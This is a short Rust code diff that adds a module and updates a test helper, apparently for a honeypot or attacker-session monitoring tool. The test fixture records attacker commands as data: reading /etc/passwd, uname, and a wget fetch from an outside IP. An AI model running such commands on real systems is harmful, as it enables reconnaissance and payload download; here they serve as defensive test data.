@@ -35,6 +35,7 @@ pub mod fanout;
 pub mod identity;
 pub mod intel;
 pub mod json;
+pub mod latest;
 pub mod predicates;
 pub mod pyregex;
 pub mod record;
@@ -166,7 +167,7 @@ mod tests {
         let text = format!(
             r#"{{"topic":"attacker.session.ended","type":"session.ended","payload":{{"attacker_uuid":"a1","session_id":"{id}","ended_at":"2026-01-01T00:00:00Z","commands":["cat /etc/passwd","uname -a","wget http://203.0.113.9/x"]}}}}"#
         );
-        Line { pos: Pos { input: 0, offset }, topic: None, text: Ok(text) }
+        Line { pos: Pos { ts: 0, input: 0, offset }, topic: None, text: Ok(text) }
     }
 
     /// Pack A from epoch 0; pack B, installed once epochs 0 and 1 are through, from epoch 2:
